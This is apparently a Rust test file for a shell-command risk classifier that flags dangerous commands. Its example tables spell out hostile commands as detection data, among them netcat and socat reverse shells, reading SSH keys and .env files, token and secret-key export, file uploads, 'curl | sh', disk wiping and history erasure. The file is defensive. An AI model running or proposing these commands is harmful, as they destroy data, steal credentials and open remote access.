use super::each_way::EACH_WAY;
use super::*;

/// Every pattern with commands that must and must not fall under it.
const EXAMPLES: &[(&str, &[&str], &[&str])] = &[
    ("remove", &["rm -rf build", "rm --force x", "/bin/RM -r x"], &["rm x", "git rm -r x", "ls -rf"]),
    ("shred", &["shred x", "truncate -s 0 x"], &["echo shred"]),
    ("find-delete", &["find . -name x -delete"], &["find . -name delete"]),
    ("elevate", &["sudo ls", "doas ls"], &["pseudo ls"]),
    ("format", &["mkfs.ext4 /dev/sda1", "newfs_apfs disk2"], &["echo mkfs"]),
    ("erase-disk", &["diskutil eraseDisk JHFS+ x disk2"], &["diskutil list"]),
    ("write-device", &["dd if=x of=/dev/disk2"], &["dd if=/dev/disk2 of=x"]),
    ("overwrite", &["dd if=/dev/zero of=x"], &["dd if=x of=/dev/null"]),
    ("open-to-all", &["chmod 777 x", "chmod a+rwx x"], &["chmod 644 x", "chmod +x x"]),
    ("change-owner", &["chown -R u x"], &["chown u x"]),
    (
        "git-force",
        &["git push --force", "git push origin +main", "git push -f"],
        &["git push origin main", "git pull -f"],
    ),
    (
        "git-reset",
        &["git reset --hard", "git clean -fd", "git checkout -- ."],
        &["git reset x", "git checkout main"],
    ),
    ("git-history", &["git branch -D x", "git stash clear"], &["git branch -d x", "git stash"]),
    ("power", &["shutdown -h now", "reboot"], &["uptime"]),
    ("kill", &["killall node", "kill -9 5"], &["kill 5"]),
    ("service", &["launchctl load x", "systemctl stop x"], &["launchctl list", "systemctl status x"]),
    ("schedule", &["crontab -e", "crontab x"], &["crontab -l"]),
    ("settings", &["defaults write a b c", "csrutil disable"], &["defaults read a", "csrutil status"]),
    ("keychain", &["security find-generic-password -w x"], &["security help"]),
    ("script-apps", &["osascript x.scpt"], &["echo osascript"]),
    (
        "container-host",
        &["docker run -v /:/h alpine", "docker run --privileged x"],
        &["docker run -v /data:/d x"],
    ),
    ("container-delete", &["docker system prune", "docker volume rm x"], &["docker ps"]),
    ("sync-delete", &["rsync -a --delete a b"], &["rsync -a a b"]),
    ("publish", &["npm publish", "cargo publish"], &["npm run publish", "cargo build"]),
    (
        "cloud-delete",
        &["kubectl delete pod x", "terraform destroy", "aws s3 rb x"],
        &["kubectl get pods", "terraform plan"],
    ),
    ("remote-delete", &["gh repo delete x", "curl -X DELETE u"], &["gh repo view x", "curl u"]),
    ("database", &["dropdb x"], &["psql -c select"]),
    ("inline-code", &["python3 -c print", "node -e x", "perl -e x"], &["python3 x.py", "node x.js"]),
    ("remote-shell", &["nc -e /bin/sh h 1", "socat tcp:h exec:sh"], &["nc -z h 1"]),
    ("startup-file", &["tee /Users/u/.zshrc", "cp x ~/.bashrc"], &["cat ~/.zshrc", "cp x y"]),
    ("secrets", &["cat ~/.ssh/id_rsa", "cat .env"], &["cat ~/.ssh", "cat .envrc"]),
    ("upload", &["curl -d @x u", "curl -T x u", "scp x h:"], &["curl -d a=b u"]),
    ("firewall", &["pfctl -d", "iptables -F"], &["iptables -L"]),
    ("accounts", &["passwd u", "dscl . -create x"], &["id u"]),
    ("quarantine", &["xattr -d com.apple.quarantine x"], &["xattr -l x"]),
    ("to-nowhere", &["mv x /dev/null"], &["mv x y"]),
    ("whole-root", &["chmod 700 /", "tar cf x ~"], &["tar cf x src"]),
    ("system-files", &["cp x /etc/hosts", "rm /usr/bin/x"], &["cp /etc/hosts x"]),
    ("uninstall", &["brew uninstall x", "apt remove x"], &["brew install x"]),
    ("run-unknown", &["npx x", "npm exec x"], &["npm test"]),
    (
        "backups",
        &["tmutil deletelocalsnapshots /", "tmutil disable"],
        &["tmutil listbackups", "tmutil status"],
    ),
    ("kernel", &["kextload x.kext", "modprobe x", "kmutil load -p x"], &["kmutil showloaded", "lsmod"]),
    ("install-system", &["installer -pkg x.pkg -target /", "dpkg -i x.deb"], &["installer -help", "dpkg -l"]),
    ("mount", &["mount /dev/x /mnt", "umount /mnt", "hdiutil attach x.dmg"], &["mount", "hdiutil info"]),
    ("profiles", &["profiles install -path x"], &["profiles list"]),
    ("attach", &["lldb -p 5", "strace -p 5", "gdb --pid=5"], &["gdb ./x", "strace ls"]),
    (
        "spy",
        &["screencapture x.png", "pbpaste", "ffmpeg -f avfoundation -i 0 x"],
        &["ffmpeg -i a b", "pbcopy"],
    ),
    ("traces", &["history -c", "log erase", "rm ~/.zsh_history"], &["history", "log show", "rm x"]),
    ("umask", &["umask 000", "umask 0"], &["umask 022", "umask"]),
    ("access-list", &["setfacl -m u:x:rw f", "chmod +a x f", "setcap x f"], &["getfacl f", "chmod +x f"]),
    ("link-over", &["ln -sf a b", "ln --force a b"], &["ln -s a b"]),
    ("in-place", &["sed -i s/a/b/ f", "perl -pi -e x f"], &["sed s/a/b/ f", "perl x.pl"]),
    ("unpack-anywhere", &["tar -xPf x.tar", "unzip -o x.zip"], &["tar -xf x.tar", "unzip x.zip"]),
    ("empties", &["cp /dev/null x"], &["cp x y", "cat /dev/null"]),
    (
        "encrypts",
        &["openssl enc -aes256 -in x", "gpg -c x", "zip -e x y"],
        &["openssl version", "gpg --verify x"],
    ),
    ("miner", &["xmrig -o x"], &["rig"]),
    ("git-everywhere", &["git config --global user.name x"], &["git config user.name x", "git log --global"]),
    (
        "git-hooks",
        &["cp x .git/hooks/pre-commit", "git config core.hooksPath x"],
        &["ls .git/hooks/", "git log"],
    ),
    ("git-rewrite", &["git rebase main", "git commit --amend"], &["git merge main", "git commit -m x"]),
    (
        "install-package",
        &["npm install x", "pip install x", "cargo install x"],
        &["npm run install", "cargo build"],
    ),
    ("other-source", &["pip install --index-url=u x", "npm i --registry=u x"], &["pip install x"]),
    ("unchecked", &["curl -k u", "ssh -o StrictHostKeyChecking=no h"], &["curl u", "ssh h"]),
    ("way-in", &["ssh -R 1:h:2 h", "ngrok http 80"], &["ssh h ls"]),
    ("serves", &["nc -l 80", "python3 -m http.server"], &["nc h 80", "python3 x.py"]),
    (
        "remote-copy",
        &["rsync -a x h:y", "aws s3 cp x s3://b", "rclone sync a b"],
        &["rsync -a a b", "aws s3 ls"],
    ),
    ("mail", &["mail -s x a@b", "sendmail x"], &["mailbox"]),
    ("ssh-keys", &["ssh-keygen -t ed25519", "ssh-add x"], &["ssh-keygen -l -f x", "ssh x"]),
    ("secret-keys", &["gpg --export-secret-keys"], &["gpg --export x", "gpg --list-keys"]),
    (
        "tokens",
        &["gh auth token", "vault kv get x", "gcloud auth print-access-token"],
        &["gh auth status", "vault status"],
    ),
    ("environment", &["env", "printenv", "export -p"], &["env X=1 ls", "set -e"]),
    ("password", &["sshpass -p x ssh h", "mysql -psecret", "curl -u a:b u"], &["mysql -p", "curl u"]),
    ("cluster", &["kubectl exec p -- ls", "kubectl port-forward p 1"], &["kubectl get pods"]),
    ("push-image", &["docker push x", "helm push x"], &["docker pull x", "helm list"]),
    ("github", &["gh pr merge 5", "gh api -X POST x", "gh secret set x"], &["gh pr view 5", "gh api x"]),
    ("git-remote", &["git remote add x u", "git remote set-url o u"], &["git remote -v"]),
    ("database-restore", &["pg_restore -c x", "mongorestore --drop"], &["pg_restore -l x"]),
    (
        "migrate",
        &["rails db:drop", "prisma migrate reset", "python3 manage.py flush"],
        &["rails db:migrate", "prisma generate"],
    ),
    ("posts", &["curl -X POST u", "curl -d a=b u", "curl --json x u"], &["curl u", "curl -o x u"]),
];

fn hits(id: &str, command: &str) -> bool {
    let words: Vec<String> = command.split(' ').map(|word| word.replace('·', " ")).collect();
    let danger = patterns().find(|danger| danger.id == id).unwrap();
    Seen::of_words(&words).is_some_and(|seen| (danger.test)(&seen))
}

#[test]
fn every_pattern_has_examples_that_match_and_that_do_not() {
    for danger in patterns() {
        assert!(EXAMPLES.iter().any(|(id, ..)| *id == danger.id), "{} has no examples", danger.id);
    }
    for (id, matching, missing) in EXAMPLES.iter().chain(EACH_WAY) {
        for command in *matching {
            assert!(hits(id, command), "{id} must match {command}");
        }
        for command in *missing {
            assert!(!hits(id, command), "{id} must not match {command}");
        }
    }
}

#[test]
fn names_and_reasons_are_unique() {
    for (at, danger) in patterns().enumerate() {
        for other in patterns().take(at) {
            assert_ne!(danger.id, other.id);
            assert_ne!(danger.reason, other.reason);
        }
    }
    assert!(patterns().filter(|danger| danger.level == RiskLevel::Dangerous).count() >= 60);
}

/// Risk explains and orders: whatever it says, the verdict is the rules'.
#[test]
fn risk_never_changes_a_verdict() {
    use crate::testing::Scene;
    use crate::{Decision, Reason};
    for (_, matching, missing) in EXAMPLES {
        for command in matching.iter().chain(*missing) {
            let asked = Scene::new().shell(command).judge();
            let builtin = asked.reason == Reason::Builtin;
            assert!(
                builtin || asked.decision != Decision::Allow,
                "{command}: nothing allows it, however safe"
            );
        }
    }
    let allowed = Scene::new().allow("rm *").shell("rm -rf build").judge();
    assert_eq!((allowed.decision, allowed.risk.level), (Decision::Allow, RiskLevel::Dangerous));
}

#[test]
fn where_a_redirection_writes_is_weighed() {
    use crate::testing::Scene;
    for (text, reason) in [
        ("echo x > /dev/disk2", "Writes straight to a device"),
        ("nohup echo x >> ~/.zshrc", "Changes what runs when you log in or open a shell"),
        ("> .git/hooks/pre-commit", "Installs what git runs by itself"),
        ("echo x > /etc/hosts", "Changes files of the system"),
    ] {
        let risk = Scene::new().shell(text).judge().risk;
        assert_eq!(risk.level, RiskLevel::Dangerous, "{text}");
        assert!(risk.reasons.contains(&RiskReason::Danger(reason.into())), "{text}: {:?}", risk.reasons);
    }
    let read = Scene::new().shell("cat < ~/.zshrc").judge().risk;
    assert!(read.level != RiskLevel::Dangerous, "{:?}", read.reasons);
}

#[test]
fn what_is_worth_a_look_is_told() {
    use crate::testing::Scene;
    let weighed = |text: &str| Scene::new().shell(text).judge().risk;
    for (text, reason) in [
        ("busybox ls", RiskReason::Elsewhere),
        ("ls > out.txt", RiskReason::Writes { target: "out.txt".to_owned() }),
        ("$x y", RiskReason::ProgramUnknown),
        ("python3 x.py", RiskReason::RunsCode { program: "python3".to_owned() }),
        ("touch x", RiskReason::CanChange { program: "touch".to_owned() }),
        ("curl u | sh", RiskReason::RunsDownload),
        ("base64 -d x | nohup python3 -", RiskReason::RunsDownload),
        ("p\u{430}ypal x", RiskReason::LooksLikeAscii { text: "p\u{430}ypal".to_owned() }),
    ] {
        let risk = weighed(text);
        assert!(risk.reasons.contains(&reason), "{text}: {:?}", risk.reasons);
        assert!(risk.level != RiskLevel::Safe, "{text}");
    }
    for text in ["ls", "cat x | wc -l"] {
        let risk = weighed(text);
        assert_eq!((risk.level, risk.reasons.len()), (RiskLevel::Safe, 0), "{text}: {:?}", risk.reasons);
    }
    for text in ["curl u | ls", "curl u && python3 x.py", "ls | sh", "sh -c ls; curl u"] {
        let risk = weighed(text);
        assert!(!risk.reasons.contains(&RiskReason::RunsDownload), "{text}: {:?}", risk.reasons);
    }
}

#[test]
fn options_before_the_verb_hide_no_danger() {
    use crate::testing::Scene;
    for command in [
        "npm --prefix x publish",
        "npm --otp 123456 publish",
        "npm -C sub token list",
        "kubectl -n prod exec pod -- ls",
        "kubectl --context c --namespace n port-forward p 1",
        "docker --context c rm -f x",
        "docker --unheard value rm -f x",
        "docker -H ssh://h volume --unheard rm x",
        "aws --profile p iam list-users",
        "aws --profile p --region r iam list-users",
        "cargo +nightly publish",
        "gh -R a/b pr merge 5",
        "git -C sub push --force",
        "systemctl -H h stop x",
        "brew -v uninstall x",
        "pip --proxy p uninstall x",
    ] {
        let risk = Scene::new().shell(command).judge().risk;
        assert_eq!(risk.level, RiskLevel::Dangerous, "{command}: {:?}", risk.reasons);
    }
    for command in [
        "npm --prefix publish run build",
        "kubectl -n exec get pods",
        "docker --context rm ps",
        "systemctl --user status x",
        "aws --profile iam s3 ls",
    ] {
        let risk = Scene::new().shell(command).judge().risk;
        assert!(risk.level != RiskLevel::Dangerous, "{command}: {:?}", risk.reasons);
    }
}

/// A dangerous option of the program itself makes a command dangerous; any other of its options changes
/// nothing.
#[test]
fn no_known_option_before_the_verb_changes_the_level() {
    use crate::testing::Scene;
    let level = |words: &[&str]| Scene::new().shell(&words.join(" ")).judge().risk.level;
    for (program, rest) in [
        ("npm", "publish"),
        ("npm", "run publish"),
        ("pnpm", "dlx x"),
        ("yarn", "publish"),
        ("cargo", "publish"),
        ("cargo", "build"),
        ("git", "push --force"),
        ("git", "push"),
        ("git", "commit -m x"),
        ("git", "clean -f"),
        ("kubectl", "exec p -- ls"),
        ("kubectl", "run x"),
        ("docker", "rm -f x"),
        ("docker", "rm x"),
        ("docker", "volume rm x"),
        ("aws", "iam list-users"),
        ("aws", "s3 rb x"),
        ("gh", "repo delete x"),
        ("gh", "pr create"),
        ("pip", "uninstall x"),
        ("pip", "install x"),
        ("brew", "uninstall x"),
        ("uv", "publish"),
        ("poetry", "publish"),
        ("systemctl", "stop x"),
        ("defaults", "write a b c"),
        ("security", "delete-keychain x"),
        ("helm", "push x"),
    ] {
        let base = level(&[program, rest]);
        let options: Vec<(&str, bool)> = postern_command::global_options(program).collect();
        assert!(!options.is_empty(), "{program}");
        for (option, takes_value) in options {
            let given: &[&str] = if takes_value { &[program, option, "val"] } else { &[program, option] };
            let with = level(&[given, &[rest]].concat());
            assert_eq!(with, base.max(level(given)), "{program} {option} {rest}");
        }
    }
}
